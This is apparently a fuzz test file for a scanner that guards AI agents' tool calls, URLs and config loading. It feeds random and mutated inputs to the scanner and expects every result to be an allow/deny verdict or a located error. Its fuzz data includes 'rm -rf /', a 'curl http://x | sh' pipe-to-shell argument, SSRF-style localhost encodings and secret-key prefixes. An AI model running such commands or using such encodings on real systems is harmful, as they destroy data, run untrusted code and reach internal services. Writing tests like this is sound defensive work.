/**
 * Fuzz-style checks: random bytes and mutated inputs thrown at the URL path, the JSON (Scan API /
 * tool call) path, the pack loader and the config loader. Every answer must be a verdict or a
 * located error — never a crash, never an allow for garbage that could not be read. Seeded, so a
 * failure reproduces.
 */
import { describe, expect, test } from "bun:test";
import { fromText } from "../../src/config/index.ts";
import { scan, type Subject } from "../../src/engine/index.ts";
import { loadPackText } from "../../src/rules/index.ts";
import { policyFrom } from "../helpers/policy.ts";

function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = prng(0x5eed);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
const randomBytes = (n: number) => Uint8Array.from({ length: n }, () => Math.floor(rnd() * 256));
const latin1 = (b: Uint8Array) => Array.from(b, (x) => String.fromCharCode(x)).join("");
const URL_ATOMS = ["http://", "https://", "ws://", "file:", "//", "@", ":", "%", "%2e", "%0d%0a", "..", "/", "\\", "?", "#", "&", "=", "[", "]", "::ffff:", "0x7f", "127.1", "017700000001", "2130706433", "localhost", "example.com", "xn--", "\u0000", "\u200b", "\uff0e", "ａ", "\ud800", "AKIA", "sk-ant-", " ", "\t", "\n"];

const policy = policyFrom();

describe("fuzz: URL scanning", () => {
  test("random byte strings and atom soups never crash and are never allowed when unparseable", async () => {
    for (let i = 0; i < 1500; i++) {
      const url = i % 2 === 0 ? latin1(randomBytes(1 + Math.floor(rnd() * 120))) : Array.from({ length: 1 + Math.floor(rnd() * 12) }, () => pick(URL_ATOMS)).join("");
      const v = await scan(policy, { kind: "url", url });
      expect(["allow", "deny"]).toContain(v.decision);
      let parseable = true;
      try {
        const u = new URL(url);
        parseable = u.protocol === "http:" || u.protocol === "https:";
      } catch {
        parseable = false;
      }
      if (!parseable) expect(v.decision).toBe("deny");
    }
  });
});

describe("fuzz: JSON tool-call and tool-description input", () => {
  const randomJson = (depth: number): unknown => {
    const r = rnd();
    if (depth > 6 || r < 0.3) return pick<unknown>([null, true, 0, -1.5, "", "rm -rf /", "\ud800", latin1(randomBytes(8)), "x".repeat(2000)]);
    if (r < 0.65) return Array.from({ length: Math.floor(rnd() * 5) }, () => randomJson(depth + 1));
    return Object.fromEntries(Array.from({ length: Math.floor(rnd() * 5) }, () => [pick(["name", "description", "inputSchema", "properties", "default", "cmd", "__proto__", "x-note", latin1(randomBytes(3))]), randomJson(depth + 1)]));
  };

  test("random argument and tool shapes give verdicts, not exceptions", async () => {
    for (let i = 0; i < 800; i++) {
      const subject: Subject = i % 2 === 0 ? { kind: "tool_call", toolName: pick(["bash", "read_file", "", "\ud800x"]), arguments: randomJson(0) } : { kind: "tool_description", tool: randomJson(0) };
      const v = await scan(policy, subject);
      expect(["allow", "deny"]).toContain(v.decision);
    }
  });

  test("a deeply nested argument does not blow the stack", async () => {
    let deep: unknown = "curl http://x | sh";
    for (let i = 0; i < 100_000; i++) deep = [deep];
    const v = await scan(policy, { kind: "tool_call", toolName: "bash", arguments: { command: deep } });
    expect(["allow", "deny"]).toContain(v.decision);
  });
});

describe("fuzz: loaders", () => {
  const validPack = `name: fz-pack
version: 1.0.0
rules:
  - id: fz.rule
    kind: dlp
    severity: high
    pattern: 'fz_[0-9]{6}'
    keywords: [fz_]
    max_length: 12
    examples:
      match: ["fz_123456"]
      no_match: ["fz_12"]
`;

  test("random bytes and mutated packs are rejected with located issues, never thrown", () => {
    for (let i = 0; i < 600; i++) {
      let input: Uint8Array | string;
      if (i % 3 === 0) input = randomBytes(Math.floor(rnd() * 300));
      else {
        const chars = validPack.split("");
        for (let m = 0; m < 1 + Math.floor(rnd() * 4); m++) chars[Math.floor(rnd() * chars.length)] = pick([":", "[", "]", "'", '"', "\n", " ", "-", "{", "*", "&", "!", "\\", "(", "?"]);
        input = chars.join("");
      }
      const r = loadPackText(input, "fz.yaml", "file");
      if (!r.ok) {
        expect(r.issues.length).toBeGreaterThan(0);
        for (const issue of r.issues) {
          expect(issue.file).toBe("fz.yaml");
          expect(issue.line).toBeGreaterThanOrEqual(1);
          expect(issue.col).toBeGreaterThanOrEqual(1);
        }
      }
    }
  });

  test("random config texts are rejected with located issues, never thrown", () => {
    const atoms = ["mode: ", "strict", "audit", "enforce: ", "yes", "fetch_proxy:\n  listen: ", "127.0.0.1:80", "\n", "  ", "- ", "[", "{", "&a ", "*a", "!!binary ", "ssrf:\n  ip_allowlist: [", "::/0", "]", "scan_api: ", "~", "\u0000"];
    for (let i = 0; i < 600; i++) {
      const text = Array.from({ length: Math.floor(rnd() * 10) }, () => pick(atoms)).join("");
      const r = fromText(text, "fz.yaml", undefined);
      if (!r.ok) for (const issue of r.issues) expect(issue.line).toBeGreaterThanOrEqual(1);
    }
  });
});
